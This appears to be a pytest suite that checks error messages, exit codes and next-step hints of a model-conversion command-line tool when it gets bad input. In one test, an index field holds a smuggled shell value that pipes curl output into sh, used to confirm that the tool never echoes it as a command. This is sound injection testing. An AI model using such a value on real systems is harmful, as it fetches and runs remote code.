"""Bad input to every command: exit code, file, and a correct next step; never a traceback."""

import io
import json
import os
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest
from bad_folders import copy_of_good
from command_inputs import Inputs
from hub_server import HubServer
from support_hints import arguments_of, check_hint, hints_in

import converter.cli.options.early_checks
from converter.cli.main import COMMANDS

Run = Callable[..., tuple[int, str, str]]

CONVERTED_ONLY = {
    "inspect": "inspect {}",
    "verify": "verify {}",
    "repair": "repair {}",
    "rebuild": "repair {} --index",
    "upload": "upload {} me/model --license mit",
    "generate": "generate {} --prompt x",
    "chat": "chat {}",
    "serve": "serve {} --port 0",
    "export": "export {} -o $out",
}
ANY_MODEL = {
    "eval": "eval {} --text $text",
    "against": "eval $good --against {} --text $text",
    "trace": "trace {} --text $text -o $out",
    "plan": "plan {}",
}
FOLDERS = {
    "missing": (1, "not there", ""),
    "file": (1, "a file", ""),
    "empty_folder": (1, "empty folder", ""),
    "unfinished": (1, "unfinished conversion", "run the same convert command again"),
    "checkpoint": (1, "tiny-mixtral is not converted", "moe-convert convert"),
}
OTHERS = [
    # command line, exit code, words of the message, words of the next step
    ("convert $missing -o $out", 1, "not there", ""),
    ("convert $file -o $out", 1, "a file", ""),
    ("convert $empty_folder -o $out", 1, "empty folder", ""),
    ("convert $checkpoint -o $out --recipe $missing.json", 2, "not there.json", ""),
    ("convert $checkpoint -o $out --recipe $json", 2, "broken.json", ""),
    ("convert $checkpoint -o $out --calibrate $missing", 1, "not there", "--calibrate"),
    ("convert $checkpoint -o $out --calibrate $empty_folder", 1, "empty folder", "--calibrate"),
    ("convert $checkpoint -o $out --calibrate $empty", 1, "empty.txt is empty", ""),
    (
        "convert $checkpoint -o $out --calibrate $latin",
        1,
        "latin.txt: not UTF-8 at byte 2",
        "UTF-8",
    ),
    ("convert $checkpoint -o $out --calibrate $short", 1, "short.txt has", "longer text"),
    ("convert $checkpoint -o $out --license mit", 2, "--upload-repo", ""),
    (
        "convert $checkpoint -o $out --upload-repo model",
        1,
        "'model' is not the name of a repository",
        "owner/model",
    ),
    ("download model", 1, "'model' is not the name of a repository", "owner/model"),
    (
        "upload $good model --license mit",
        1,
        "'model' is not the name of a repository",
        "owner/model",
    ),
    ("upload $good me/model", 1, "there is no token", "--token"),
    ("repair $good --from $missing", 1, "not there", ""),
    ("repair $good --from $good", 1, "only read", ""),
    ("eval $good --text $missing", 2, "not there", ""),
    ("eval $good --text $empty_folder", 2, "empty folder", ""),
    ("eval $good --text $empty", 1, "empty.txt: the file is empty", "text"),
    ("eval $good --text $latin", 1, "latin.txt: not UTF-8 at byte 2", "UTF-8"),
    (
        "eval $good --text $short",
        1,
        "short.txt: shorter than a window of 256 tokens",
        "smaller window",
    ),
    ("eval $good --text $text --text $short", 1, "short.txt: shorter", "smaller window"),
    ("eval $good --text $text --device cuda:99", 1, "cuda:99", "cpu"),
    ("eval $good --text $text --against $checkpoint --ram-cache lots", 2, "lots", "6GiB"),
    ("eval $good --text $text --against $checkpoint --device tpu", 2, "tpu", ""),
    ("trace $good --text $missing -o $out", 2, "not there", ""),
    ("trace $good --text $empty -o $out", 1, "empty.txt: the file is empty", "text"),
    ("trace $good --text $text --text $short -o $out", 1, "short.txt: shorter", "smaller window"),
    ("trace $good --prompts $latin -o $out", 1, "latin.txt: not UTF-8", "UTF-8"),
    ("trace $good --prompts $blank -o $out", 1, "the file has no prompts", "one prompt per line"),
    ("trace $good --text $text -o $empty_folder", 1, "empty folder is a folder", "file"),
    ("trace $good --text $text -o $below_missing", 1, "not there is not there", "folder"),
    ("trace $good --text $text -o $below_file", 1, "a file is not a folder", "folder"),
    ("replay $missing", 1, "not there", ""),
    ("replay $empty_folder", 1, "empty folder", ""),
    ("replay $file", 3, "a file: not a trace", "moe-convert trace"),
    ("replay $trace --plot $below_missing", 1, "not there is not there", "folder"),
    ("plan $good --trace $file", 3, "a file: not a trace", "moe-convert trace"),
    ("plan $good --trace $trace", 1, "trace.zst: a trace of another model", "record a trace"),
    ("plan $good --ram lots", 2, "lots", "6GiB"),
    ("generate $good --prompt x --trace $file", 3, "a file: not a trace", "moe-convert trace"),
    ("generate $good --prompt x --ram-cache 1B", 4, "1 bytes", "at least"),
    ("generate $good --prompt x --device cuda:99", 1, "cuda:99", "cpu"),
    ("generate $good --prompt x --temperature 1e-300", 2, "temperature", ""),
    ("chat $good --template $missing", 2, "not there", ""),
    ("chat $good --template $empty", 1, "empty.txt: the file is empty", "text"),
    ("chat $good --template $latin", 1, "latin.txt: not UTF-8", "UTF-8"),
    ("chat $good --ram-cache 1B", 4, "1 bytes", "at least"),
    ("chat $good --top-k -1", 2, "--top-k", ""),
    ("serve $good --port 0 --template $missing", 2, "not there", ""),
    ("serve $good --port 0 --template $empty", 1, "empty.txt: the file is empty", "text"),
    ("serve $good --port 0 --ram-cache 1B", 4, "1 bytes", "at least"),
    ("serve $good --port 70000", 2, "--port", ""),
    ("serve $good --port 0 --max-context 100000", 2, "--max-context", ""),
    ("serve $good --port 0 --prefix-cache lots", 2, "--prefix-cache", ""),
    ("export $good -o $out", 2, "ffn_gate_exps.weight: 192 columns", "--experts f16"),
    ("export $good -o $out --experts q9_k", 2, "q9_k", ""),
    ("export $good -o $empty_folder", 1, "empty folder is a folder", "file"),
    ("export $good -o $text --experts f16", 1, "english.txt exists", "--force"),
    ("env --nonsense", 2, "--nonsense", ""),
    ("cache --remove no/model", 1, "has no model no/model", "moe-convert cache"),
]


def arguments(line: str, inputs: Inputs) -> list[str]:
    """The line's words, `$name` replaced by the path of that name."""

    def path(word: str) -> str:
        name, dot, suffix = word.removeprefix("$").partition(".")
        return f"{getattr(inputs, name)}{dot}{suffix}" if word.startswith("$") else word

    return [path(word) for word in line.split()]


def check_refusal(run: Run, line: list[str], code: int, message: str, hint: str) -> None:
    """Run a command that must fail with these texts; a next step that is a command must parse."""
    got, out, err = run(*line)
    assert got == code, err
    assert out == ""
    assert message in err
    assert "Traceback" not in err
    if code != 2:
        assert err.count("error: ") == 1
        hints = hints_in(err)
        assert len(hints) == 1, err
        assert hint in hints[0]
        check_hint(hints[0])


@pytest.mark.parametrize("kind", list(FOLDERS))
@pytest.mark.parametrize("command", list(CONVERTED_ONLY))
def test_folder_that_is_not_converted_is_named_and_is_no_damage(
    run_command: Run, inputs: Inputs, command: str, kind: str
) -> None:
    line = CONVERTED_ONLY[command].replace("{}", f"${kind}")
    check_refusal(run_command, arguments(line, inputs), *FOLDERS[kind])


@pytest.mark.parametrize("kind", ["missing", "file", "empty_folder", "unfinished"])
@pytest.mark.parametrize("command", list(ANY_MODEL))
def test_folder_without_a_model_is_named(
    run_command: Run, inputs: Inputs, command: str, kind: str
) -> None:
    code, message, hint = FOLDERS[kind]
    line = ANY_MODEL[command].replace("{}", f"${kind}")
    check_refusal(
        run_command,
        arguments(line, inputs),
        code,
        message,
        hint if command in ("eval", "trace") else "",
    )
    assert not inputs.out.exists()


@pytest.mark.parametrize(
    "command",
    [
        "inspect",
        "download",
        "generate --prompt x",
        "generate --prompt x --lazy",
        "chat",
        "serve --port 0",
        "export -o exported.gguf",
    ],
)
def test_repository_that_is_not_converted_is_named(
    run_command: Run, hub: HubServer, command: str
) -> None:
    hub.add("me/plain", {"config.json": b"{}", "model.safetensors": b"weights"})
    name, *options = command.split()
    check_refusal(
        run_command,
        [name, "me/plain", *options],
        1,
        "is not converted",
        "moe-convert convert me/plain",
    )


@pytest.mark.parametrize(
    ("line", "code", "message", "hint"), OTHERS, ids=[line for line, *_ in OTHERS]
)
def test_bad_input_is_named_with_a_next_step(
    run_command: Run, inputs: Inputs, line: str, code: int, message: str, hint: str
) -> None:
    check_refusal(run_command, arguments(line, inputs), code, message, hint)
    assert not inputs.out.exists()


def test_every_command_is_in_the_tables() -> None:
    lines = [*CONVERTED_ONLY.values(), *ANY_MODEL.values(), *(line for line, *_ in OTHERS)]
    assert {line.split()[0] for line in lines} == set(COMMANDS)


def test_checkpoint_is_converted_by_the_command_that_the_refusal_names(
    run_command: Run, inputs: Inputs
) -> None:
    spaced = Path(shutil.copytree(inputs.checkpoint, inputs.missing.with_name("it's a model")))
    _, _, err = run_command("inspect", spaced)
    (hint,) = hints_in(err)
    assert run_command(*arguments_of(hint), "--dry-run")[0] == 0


@pytest.mark.parametrize(
    ("line", "module", "hint"),
    [
        ("replay $trace --plot $out.svg", "matplotlib", "pip install 'moe-convert[plots]'"),
        ("export $good -o $out", "gguf", "pip install 'moe-convert[gguf]'"),
        ("eval $good --tasks arc_easy", "lm_eval", "pip install 'moe-convert[eval]'"),
    ],
)
def test_missing_extra_is_named_before_the_work(
    run_command: Run,
    inputs: Inputs,
    monkeypatch: pytest.MonkeyPatch,
    line: str,
    module: str,
    hint: str,
) -> None:
    monkeypatch.setattr(converter.cli.options.early_checks, "find_spec", lambda name: None)
    check_refusal(run_command, arguments(line, inputs), 1, module, hint)


def test_prompt_that_is_not_utf8_is_refused(
    run_command: Run, inputs: Inputs, monkeypatch: pytest.MonkeyPatch
) -> None:
    check_refusal(
        run_command,
        ["generate", str(inputs.good), "--prompt", "\udcff"],
        1,
        "--prompt is not UTF-8",
        "UTF-8",
    )
    monkeypatch.setattr("sys.stdin", io.TextIOWrapper(io.BytesIO(b"\xff"), encoding="utf-8"))
    check_refusal(
        run_command,
        ["generate", str(inputs.good), "--prompt", "-"],
        1,
        "stdin is not UTF-8",
        "UTF-8",
    )


@pytest.mark.parametrize(
    "line", ["generate {} --prompt <beyond>", "eval {} --text $", "trace {} --text $ -o $.zst"]
)
def test_token_without_an_embedding_is_refused(
    run_command: Run, converted_copy: Path, tmp_path: Path, line: str
) -> None:
    from transformers import AutoTokenizer

    tokenizer = AutoTokenizer.from_pretrained(converted_copy)
    tokenizer.add_tokens(["<beyond>"])
    tokenizer.save_pretrained(converted_copy)
    text = tmp_path / "text.txt"
    text.write_text("<beyond>" * 300)
    words = [
        word.replace("{}", str(converted_copy)).replace("$", str(text)) for word in line.split()
    ]
    check_refusal(run_command, words, 3, "its sha256 is", "moe-convert repair")
    check_refusal(run_command, [*words, "--check", "none"], 1, "embeddings", "tokenizer")


def test_source_name_from_an_index_never_becomes_a_shell_command(
    run_command: Run, tmp_path: Path
) -> None:
    folder = copy_of_good(tmp_path)
    index = json.loads((folder / "moe_index.json").read_text())
    index["source"] |= {"name": "x/y; curl http://example.org | sh #", "revision": "0" * 40}
    (folder / "moe_index.json").write_text(json.dumps(index))
    os.truncate(folder / "trunk.safetensors", 100)
    code, out, _ = run_command("verify", folder)
    assert code == 3
    assert "curl" not in out
    for hint in hints_in(out):
        check_hint(hint)


def test_damage_is_mended_by_the_command_that_verify_names(
    run_command: Run, converted_copy: Path, example_folder: Path
) -> None:
    spaced = converted_copy.rename(converted_copy.with_name("a model's copy"))
    os.truncate(spaced / "experts" / "layer-001.safetensors", 5000)
    _, out, _ = run_command("verify", spaced)
    (hint,) = hints_in(out)
    assert run_command(*arguments_of(hint.replace("SOURCE", str(example_folder))))[0] == 0
    assert run_command("verify", spaced, "--read-data")[0] == 0
